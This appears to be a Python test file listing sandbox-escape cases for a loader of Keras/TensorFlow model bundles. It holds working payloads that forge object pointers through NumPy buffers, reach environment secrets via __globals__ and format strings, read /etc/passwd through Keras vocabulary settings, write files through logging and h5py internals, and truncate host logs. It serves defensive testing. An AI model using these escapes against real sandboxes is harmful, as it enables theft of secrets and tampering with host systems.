# ruff: noqa: E501
"""Fourth round: what real objects of TensorFlow, Keras, NumPy and h5py lead to, and protocols that libraries follow.

The name of each begins with the class of the attack. What shows in no event, file or secret prints that it acted.
"""

from __future__ import annotations

Modules = dict[str, str]

ACT = "print('kbundle-' + 'acted')"
SECRET = "'KBUNDLE_CANARY_SECRET'"
OPEN = "'/tmp/work/opened', 'w'"
NET = "import functools, keras, numpy as np\n"
#: A power `p` where the host calls it.
LAYER = "\nclass L(keras.layers.Layer):\n    call = p\nclass A:\n    __repr__ = p\n    __call__ = p\na = A()\n"
SHOWN = "\nclass A:\n    __repr__ = p\na = A()\n"
#: An object `b`, and its address as bytes.
B = "import numpy as np\nb = ['kbundle']\nt = id(b).to_bytes(8, 'little')\n"
FORGED = ", dtype=object, buffer=t)[0] is b: " + ACT
#: A bytes object `b`, and what NumPy maps its memory by.
MAPS = "import numpy as np\nb = b'kbundle-' * 3\nn = '__array_' + 'interface__'\nd = {'data': (id(b) + 32, False), 'shape': (24,), 'typestr': '|u1', 'version': 3}\n"
MAPPED = "if np.array({}).tobytes() == b: " + ACT
HOST = "import logging\nh = logging.getLogger().handlers[0]\n"
MOVED = "{'base' + 'Filename': '/tmp/work/moved', 'stream': None}"
LOGGED = "\nlogging.getLogger('z').error('written')"
AGAIN = "import copy\nclass R:\n    def __reduce_ex__(self, p): return "
FIT = (
    "import keras, copy, functools, types\nclass M(keras.Model):\n    def __init__(self, **k):\n        super().__init__(**k)\n"
    "        self.d = keras.layers.Dense(4)\n    def call(self, x): return self.d(x)\n    def fit(self, *a, callbacks=(), **k):\n"
    "        for c in list(callbacks or ()):\n            if hasattr(c, 'save_freq'):\n                %s\n"
    "        return super().fit(*a, callbacks=callbacks, **k)"
)
LOOKUP = "StringLookup(num_oov_indices=1)"
#: A layer that is shown after it was saved, with the real file `f` of the host.
STORE = NET + (
    "class L(keras.layers.Layer):\n    def call(self, x): return x\n    def save_own_variables(self, store):\n"
    "        f = getattr(store, ''.join(['h5_', 'file']))\n        L.__repr__ = functools.partial(%s)\n        L.__str__ = L.__repr__"
)
GLOBALS = "'{0.__glo' + 'bals__[_os].environ[KBUNDLE_CANARY_SECRET]}'"
TEXT = "import random, keras\nt = ''.join(['{0.__glo', 'bals__[_os].environ[KBUNDLE_CANARY_SECRET]}'])\n"
TB = (
    "class Code:\n    co_filename = '/tmp/home-canary-93ad/secret.py'\n    co_name = co_qualname = 'f'\n    def co_positions(self): return []\n"
    "class Frame:\n    f_code = Code(); f_globals = {}; f_locals = {}; f_back = None; f_lineno = 1\n"
    "class TB:\n    tb_frame = Frame(); tb_next = None; tb_lineno = 1; tb_lasti = -1\n"
)
PASSWD = "'/etc/passwd'"
LAYERS = "c = keras.Sequential([keras.Input((1,), dtype='string'), keras.layers.StringLookup(vocabulary=['a'])]).get_config()\nc['layers'][1]['config']['vocabulary'] = '/etc/passwd'\n"

CASES: dict[str, str | Modules] = {
    # Memory: a stand-in gives away what it stands for
    "memory-alias": B + "if np.ndarray[int, int]((1,)" + FORGED,
    "memory-alias-origin": B + "if np.ndarray[int, int].__origin__((1,)" + FORGED,
    "memory-origin": B + "import typing\nif typing.get_origin(np.typing.NDArray[np.int8])((1,)" + FORGED,
    "memory-union": B + "import typing\nif typing.get_args(np.ndarray | None)[0]((1,)" + FORGED,
    "memory-super-matrix": B
    + "class M(np.matrix):\n    def __new__(cls): return super(np.matrix, cls).__new__(cls, (1, 1), object, t)\nif M()[0, 0] is b: "
    + ACT,
    "memory-super-masked": B
    + "class M(np.ma.MaskedArray):\n    def __new__(cls): return super(np.ma.MaskedArray, cls).__new__(cls, (1,), object, t)\n"
    "    def __array_finalize__(self, o): pass\nif np.asarray(M())[0] is b: " + ACT,
    # Memory: an array of objects is a buffer of addresses
    "memory-pack-into": B
    + "import struct\na = np.array([None, None])\nstruct.pack_into('Q', a, 0, id(b))\nif a[0] is b: "
    + ACT,
    "memory-readinto": B + "import io\na = np.array([None, None])\nio.BytesIO(t).readinto(a)\nif a[0] is b: " + ACT,
    "memory-frombuffer": B + "a = np.array([None, None])\nnp.frombuffer(a, 'u8')[0] = id(b)\nif a[0] is b: " + ACT,
    "memory-pack-tensor": B
    + "import struct, functools\na = np.array([None, None])\nfunctools.reduce(lambda x, y: struct.pack_into('<q', a, 8, y), [0, id(b)])\nif a[1] is b: "
    + ACT,
    "memory-out-parameter": B
    + "a = np.array([None, None])\nnp.copyto(np.frombuffer(a, 'u1', 8), np.frombuffer(t, 'u1'))\nif a[0] is b: "
    + ACT,
    "memory-escape": B
    + "import random, struct\ndef at(i):\n    a = np.array([None])\n    struct.pack_into('Q', a, 0, i)\n    return a[0]\nkept = []\n"
    "def word(i):\n    k = np.array([10**6, id(bytearray), 4096, 4097, i, i, 0], dtype='u8').tobytes()\n    kept.append(k)\n    return int(np.frombuffer(at(id(k) + 32), 'u8')[0])\n"
    "g = at(word(id(random.Random.seed) + 16))['_os']\nd = at(word(id(g) + 16))\nx = d['environ'].get(" + SECRET + ")",
    # Memory: objects that no class of the bundle makes name an address
    "memory-interface-namespace": MAPS + "import types\n" + MAPPED.format("types.SimpleNamespace(**{n: d})"),
    "memory-interface-writes": MAPS
    + "import types\nnp.asarray(types.SimpleNamespace(**{n: d}))[0] = 75\nif b[0] == 75: "
    + ACT,
    "memory-interface-protocol": MAPS
    + "import typing\nclass P(typing.Protocol):\n    def __getattr__(self, k):\n        if k == n: return d\n        raise AttributeError(k)\nclass C(P):\n    def f(self): pass\n"
    + MAPPED.format("C()"),
    "memory-interface-property": MAPS
    + "class C:\n    @property\n    def __getattr__(self): return g\ndef g(k):\n    if k == n: return d\n    raise AttributeError(k)\n"
    + MAPPED.format("C()"),
    "memory-interface-classmethod": MAPS
    + "class C:\n    @classmethod\n    def __getattr__(cls, k):\n        if k == n: return d\n        raise AttributeError(k)\n"
    + MAPPED.format("C()"),
    "memory-interface-late": MAPS
    + "class C: pass\ndef g(self, k):\n    if k == n: return d\n    raise AttributeError(k)\nC.__getattr__ = g\n"
    + MAPPED.format("C()"),
    "memory-interface-set-name": MAPS
    + "class S:\n    def __set_name__(self, o, k):\n        if np.array(o()).tobytes() == b: "
    + ACT
    + "\nclass C:\n    s = S()\n"
    "    def __getattr__(self, k):\n        if k == n: return d\n        raise AttributeError(k)",
    "memory-interface-init-subclass": MAPS
    + "class P:\n    def __init_subclass__(cls):\n        if np.array(cls()).tobytes() == b: "
    + ACT
    + "\nclass C(P):\n"
    "    def __getattr__(self, k):\n        if k == n: return d\n        raise AttributeError(k)",
    "memory-interface-enum": MAPS + "import enum\nE = enum.Enum('E', {'A': 1, n: d})\n" + MAPPED.format("E.A"),
    "memory-interface-module": {
        "pack.__init__": "",
        "pack.m": MAPS + "import pack.m as me\nglobals()[n] = d\n" + MAPPED.format("me"),
    },
    "memory-interface-module-getattr": {
        "pack.__init__": "",
        "pack.m": MAPS
        + "import pack.m as me\ndef __getattr__(k):\n    if k == n: return d\n    raise AttributeError(k)\n"
        + MAPPED.format("me"),
    },
    "memory-interface-wrapper": MAPS
    + "import types, functools\ndef f(): pass\nfunctools.update_wrapper(f, types.SimpleNamespace(**{n: d}))\n"
    + MAPPED.format("f"),
    "memory-interface-copy": MAPS
    + "import functools\n"
    + AGAIN
    + "(functools.partial, (print,), (print, (), {}, {n: d}))\n"
    + MAPPED.format("copy.copy(R())"),
    "memory-interface-exception": MAPS + AGAIN + "(ValueError, (), {n: d})\n" + MAPPED.format("copy.copy(R())"),
    "memory-interface-real-type": MAPS
    + "import typing\n"
    + MAPPED.format("typing.get_args(type | None)[0]('C', (), {n: d})()"),
    "memory-interface-alias-of-type": MAPS + MAPPED.format("type[int]('C', (), {n: d})()"),
    "memory-interface-method": MAPS
    + "import types, functools\ndef f(self): pass\nfunctools.wraps(types.SimpleNamespace(**{n: d}))(f)\n"
    + MAPPED.format("types.MethodType(f, 1)"),
    "memory-interface-tensor": MAPS
    + "import types, tensorflow as tf\nif bytes(tf.constant(types.SimpleNamespace(**{n: d})).numpy()) == b: "
    + ACT,
    # Memory: an array that is shorter than its views
    "memory-resize-handed": "import numpy as np, functools\na = np.zeros(4096, 'u1')\nv = a[:]\nfunctools.partial(a.resize, 16, **{'ref' + 'check': False})()\n"
    "kept = [(b'kb%05d' % i) * 300 for i in range(20)]\nif b'kb000' in v.tobytes(): " + ACT,
    "memory-resize-class": "import numpy as np\na = np.zeros(4096, 'u1')\nv = a[:]\nnp.ndarray.resize(a, 16, **{'ref' + 'check': False})\n"
    "kept = [(b'kb%05d' % i) * 300 for i in range(20)]\nif b'kb000' in v.tobytes(): " + ACT,
    "memory-dtype-copied": "import numpy as np\n"
    + AGAIN
    + "(np.dtype, ('V1', False, True), (3, '|', None, ('a',), {'a': (np.dtype('u1'), 4096)}, 1, 1, 0))\ny = np.zeros(1, 'u1').view(copy.copy(R()))['a']\n"
    + ACT,
    "memory-dtype-object-copied": B
    + AGAIN
    + "(np.dtype, ('V8', False, True), (3, '|', None, ('a',), {'a': (np.dtype('O'), 0)}, 8, 1, 0))\nif np.array([id(b)]).view(copy.copy(R()))['a'][0] is b: "
    + ACT,
    # A library stores attributes that the bundle names
    "stores-by-copy": HOST + AGAIN + "(lambda: h, (), (None, " + MOVED + "))\ncopy.copy(R())" + LOGGED,
    "stores-by-copy-of-dict": HOST + AGAIN + "(lambda: h, (), " + MOVED + ")\ncopy.copy(R())" + LOGGED,
    "stores-by-deepcopy": HOST + AGAIN + "(lambda: h, (), (None, " + MOVED + "))\ncopy.deepcopy([R()])" + LOGGED,
    "stores-by-wrapper": HOST
    + "import functools, types\nfunctools.update_wrapper(h, types.SimpleNamespace(**"
    + MOVED
    + "))"
    + LOGGED,
    "stores-by-wraps": HOST
    + "import functools, types\nfunctools.wraps(types.SimpleNamespace(**"
    + MOVED
    + "))(h)"
    + LOGGED,
    "stores-by-copy-on-callback": FIT % "R.c = c\n                copy.copy(R())"
    + "\nclass R:\n    def __reduce_ex__(self, p): return (lambda: R.c, (), {'file' + 'path': '/tmp/work/c1.keras'})",
    "stores-by-wrapper-on-callback": FIT
    % "functools.update_wrapper(c, types.SimpleNamespace(**{'file' + 'path': '/tmp/work/c2.keras'}))",
    "stores-by-copy-on-class": "import keras, numpy as np\ndef evil(self, x, training=None): return x * 0 + 42\n"
    + AGAIN
    + "(lambda: keras.layers.Dense, (), (None, {'ca' + 'll': evil}))\ncopy.copy(R())\nif float(keras.layers.Dense(2)(np.ones((1, 2)))[0][0]) == 42: "
    + ACT,
    "stores-by-copy-on-log": "import logging\n"
    + AGAIN
    + "(lambda: logging.StreamHandler, (), (None, {'em' + 'it': lambda s, r: None}))\ncopy.copy(R())\n"
    "if logging.StreamHandler().emit(1) is None: " + ACT,
    "stores-class-by-name": HOST
    + "class C:\n    def emit(self, r): return 42\nsetattr(h, ''.join(['__cla', 'ss__']), C)\nif logging.getLogger().handlers[0].emit(1) == 42: "
    + ACT,
    # A real power under a name that no list has, handed on
    "handed-open-of-handler": NET + HOST + "p = functools.partial(h._builtin_open, " + OPEN + ")" + LAYER,
    "handed-open-frompyfunc": NET + HOST + "u = np.frompyfunc(functools.partial(h._builtin_open, mode='w'), 1, 1)\n"
    "class A:\n    __repr__ = functools.partial(u, '/tmp/work/ufunc')\na = A()",
    "handed-open-property": NET
    + HOST
    + "class L(keras.layers.Layer):\n    input_spec = property(functools.partial(h._builtin_open, '/tmp/work/prop', 'w', -1, None, None, None, True))\n"
    "    p = property(lambda self: 1)\nclass A:\n    __str__ = functools.partial(h._builtin_open, '/tmp/work/prop2', 'w')\na = A()",
    "handed-open-map": HOST + "it = map(h._builtin_open, ['/tmp/home-canary-93ad/secret.txt'])",
    "handed-open-map-reads": "import operator, itertools\n"
    + HOST
    + "it = itertools.chain.from_iterable(map(h._builtin_open, ['/tmp/home-canary-93ad/secret.txt']))",
    "handed-type-of-lookup": NET
    + "p = functools.partial(type(keras.layers.StringLookup()), vocabulary='/etc/passwd')"
    + LAYER,
    "handed-type-of-inner-lookup": NET
    + "p = functools.partial(type(keras.layers.TextVectorization()._lookup_layer), vocabulary='/etc/passwd')"
    + LAYER,
    "handed-lookup-base": NET
    + "from keras.src.layers.preprocessing.index_lookup import IndexLookup\np = functools.partial(IndexLookup, None, 1, None, '[UNK]', 'string', vocabulary='/etc/passwd')"
    + LAYER,
    "handed-lookup-derived": NET
    + "from keras.src.layers.preprocessing.index_lookup import IndexLookup\nclass V(IndexLookup): pass\n"
    "p = functools.partial(V, None, 1, None, '[UNK]', 'string', vocabulary='/etc/passwd')" + LAYER,
    "handed-lookup-method": NET
    + "p = functools.partial(getattr(keras.layers.StringLookup(), ''.join(['set_', 'vocabulary'])), '/etc/passwd')"
    + LAYER,
    "handed-vectorization-method": NET
    + "p = functools.partial(getattr(keras.layers.TextVectorization(), ''.join(['set_', 'vocabulary'])), '/etc/passwd')"
    + LAYER,
    "handed-type-of-cache": NET
    + "import tensorflow as tf\nd = tf.data.Dataset.range(2)\nmk = functools.cache(functools.partial(type(d.cache()), d, '/tmp/work/cached'))\n"
    "p = functools.partial(mk)"
    + SHOWN
    + "class C:\n    __call__ = p\n    def __hash__(self): return len(list(mk()))\nc = C()",
    "handed-sampler": NET
    + "import tensorflow as tf\np = functools.partial(tf.random.fixed_unigram_candidate_sampler, tf.constant([[1]], tf.int64), 1, 1, True, 5, vocab_file='/tmp/home-canary-93ad/secret.txt')"
    + LAYER,
    "handed-type-of-h5": STORE % "type(f), '/tmp/work/typed.h5', 'w'",
    "handed-type-of-store": STORE % "type(store), '/tmp/work/store.h5', mode='w'",
    "handed-h5-external": STORE
    % "f.create_dataset, 'x', (4,), 'u1', data=np.ones(4, 'u1'), external=[('/tmp/work/external', 0, 4)]",
    "handed-clone": NET
    + "l = keras.layers.StringLookup(vocabulary=['a'])\nm = keras.Sequential([keras.Input((1,), dtype='string'), l])\nl.input_vocabulary = '/etc/passwd'\n"
    "p = functools.partial(keras.models.clone_model, m)" + LAYER,
    "handed-format-exception": "import traceback, functools\n"
    + TB
    + "f = functools.partial(traceback.format_exception, ValueError, ValueError(), TB())\nx = f()",
    "handed-print-exception": "import traceback, functools, sys\n"
    + TB
    + "f = functools.partial(traceback.print_exception, ValueError, ValueError(), TB())\nf()",
    # Formats: a text that reads attributes
    "format-computed": TEXT + "x = getattr(t, ''.join(['for', 'mat']))(random.Random.seed)",
    "format-methodcaller": TEXT
    + "import operator\nx = operator.methodcaller(''.join(['for', 'mat']), random.Random.seed)(t)",
    "format-attrgetter": TEXT
    + "import operator\nx = operator.attrgetter(''.join(['for', 'mat']))(t)(random.Random.seed)",
    "format-by-style": TEXT
    + "import logging, functools\nf = functools.partial(logging.Formatter, t.replace('0', 'msg'), None, '{', False)()\n"
    "class R:\n    exc_info = exc_text = stack_info = None\n    def __init__(self): self.msg = random.Random.seed\n    def getMessage(self): return ''\nx = f.formatMessage(R())",
    "format-derived": TEXT
    + "import logging\nclass F(logging.Formatter):\n    def __init__(self, *a): super().__init__(*a)\nf = F(t.replace('0', 'msg'), None, '{', False)\n"
    "class R:\n    def __init__(self): self.msg = random.Random.seed\nx = f.formatMessage(R())",
    "format-by-string-class": TEXT + "x = getattr(str, ''.join(['for', 'mat']))(t, random.Random.seed)",
    "format-by-map": TEXT + "x = list(map(getattr(str, ''.join(['for', 'mat'])), [t], [random.Random.seed]))",
    "format-strings": TEXT
    + "import numpy as np\nx = np.vectorize(getattr(t, ''.join(['for', 'mat'])), otypes=[str])(np.array([random.Random.seed])).tolist()",
    # What a signature shows
    "default-getattr": "import codecs, inspect, random\ng = inspect.signature(codecs.getreader('utf-8').__getattr__).parameters['getattr'].default\n"
    "x = g(g(random.Random.seed, '__glo' + 'bals__')['_os'], 'env' + 'iron').get(" + SECRET + ")",
    "default-getattr-writer": "import codecs, inspect, random\ng = inspect.signature(codecs.lookup('ascii').streamreader.__getattr__).parameters['getattr'].default\n"
    "x = g(g(random.Random.seed, '__glo' + 'bals__')['_os'], 'env' + 'iron').get(" + SECRET + ")",
    "default-of-weakref": "import weakref, inspect\ng = globals()\nr = weakref.getweakrefs(g)[0]\n"
    "k = inspect.signature(r.__callback__).parameters['selfref'].default()\nd = k[g]\nif '__buil' + 'tins__' in list(d): "
    + ACT,
    "undo-by-weakref": "import weakref, inspect, numpy as np\ng = globals()\nr = weakref.getweakrefs(g)[0]\n"
    "d = inspect.signature(r.__callback__).parameters['selfref'].default()[g]\nn = '__buil' + 'tins__'\nd[n] = {**d[n]}\nd['__name__'] = 'packed'\n"
    "def f(x):\n    np.zeros(3).tofile('/tmp/work/undone')\n    return x",
    # Real modules and paths that objects hold
    "module-of-pure-path": f"import pathlib\nx = pathlib.PurePosixPath('a')._flavour.pathmod.expandvars('$' + {SECRET})",
    "module-of-pure-path-user": "import pathlib\nx = pathlib.PurePath('a')._flavour.pathmod.expanduser('~')",
    "module-of-pure-path-looks": "import pathlib\nif pathlib.PurePath('a')._flavour.pathmod.isfile('/tmp/home-canary-93ad/secret.txt'): "
    + ACT,
    "module-of-pure-path-handed": NET
    + f"import pathlib\nmk = functools.partial(pathlib.PurePath('a')._flavour.pathmod.expandvars, '$' + {SECRET})\nx = mk()",
    "path-of-resources": "import importlib.resources as r\nf = r.files('tensorflow.include')\nq = f.joinpath('zz')\nx = str(q.joinpath('~').relative_to(q).expanduser())",
    "path-of-resources-looks": "import importlib.resources as r\nif r.files('tensorflow.include').joinpath('/tmp/home-canary-93ad/secret.txt').is_file(): "
    + ACT,
    "look-by-keyword": "import os, random\ntry:\n    os.path.samefile(random.__file__, f2='/tmp/home-canary-93ad/secret.txt')\n    "
    + ACT
    + "\nexcept OSError: pass",
    "look-by-path-keyword": "import pathlib, random\ntry:\n    pathlib.Path(random.__file__).samefile(other_path='/tmp/home-canary-93ad/secret.txt')\n    "
    + ACT
    + "\nexcept OSError: pass",
    # The host builds from a config that the bundle gives it
    "config-of-model": NET
    + LAYERS
    + "class M(keras.Sequential):\n    def get_config(self): return c\nm = M([keras.Input((4,)), keras.layers.Dense(1)])",
    "config-of-changed-layer": NET
    + "l = keras.layers.StringLookup(vocabulary=['a'])\nm = keras.Sequential([keras.Input((1,), dtype='string'), l])\nl.input_vocabulary = '/etc/passwd'",
    "config-of-wrapper": NET
    + LAYERS
    + "class W(keras.layers.TimeDistributed):\n    def get_config(self): return {'layer': c['layers'][1]}\nw = W(keras.layers.Dense(1))",
    "config-of-compilation": NET
    + LAYERS
    + "class M(keras.Sequential):\n    def get_compile_config(self): return {'optimizer': 'sgd', 'loss': c['layers'][1]}\nm = M([keras.Input((4,)), keras.layers.Dense(4)])\nm.compile('sgd', 'mse')",
    "config-of-lambda": NET
    + "class M(keras.Sequential): pass\nm = M([keras.Input((4,)), keras.layers.Lambda(lambda x: [x, print(getattr(os, ''.join(['env', 'iron'])).get("
    + SECRET
    + "))][0])])",
    # Pickles and copies that the host makes
    "copied-lookup": NET + "from keras.src.layers.preprocessing.index_lookup import IndexLookup\nclass A:\n"
    "    def __reduce_ex__(self, p): return IndexLookup, (None, 1, None, '[UNK]', 'string', '/etc/passwd')\na = A()",
    "copied-type-of-lookup": NET
    + "T = type(keras.layers.StringLookup())\nclass A:\n    def __reduce_ex__(self, p): return T, (None, 1, None, '[UNK]', '/etc/passwd')\na = A()",
    # What is checked and then changed
    "changed-fields": "import dataclasses\nk = []\nclass S(str):\n    def partition(self, s):\n        k[0].pop('b', None)\n        k[0][n] = k[0]['a'] = str\n        return ('', '', '')\n"
    "n = \"a+str(__import__('os').environ.get('KBUNDLE_CANARY_SECRET'))\"\n@dataclasses.dataclass(init=False, eq=False)\nclass C:\n    __module__ = 'nope'\n    a: S('q') = ''\n    b: int = 1\n    k.append(__annotations__)\n"
    "x = repr(C())",
    # What is the host's
    "host-log-emptied": HOST
    + "logging.getLogger('z').error('kept')\nh.stream.seek(0)\nif h.stream.truncate(0) == 0: "
    + ACT,
    "host-log-stream": HOST
    + "logging.getLogger('z').error('kept')\nb = h.stream.buffer\nb.seek(0)\nif b.truncate(0) == 0: "
    + ACT,
    "import-venv": "try:\n    import venv.__main__\nexcept BaseException as e:\n    if type(e).__name__ == 'SystemExit': "
    + ACT,
    "import-lib2to3": "try:\n    import lib2to3.__main__\nexcept BaseException as e:\n    if type(e).__name__ == 'SystemExit': "
    + ACT,
    "import-f2py": "try:\n    import numpy.f2py.__main__\nexcept BaseException as e:\n    if type(e).__name__ == 'SystemExit': "
    + ACT,
}
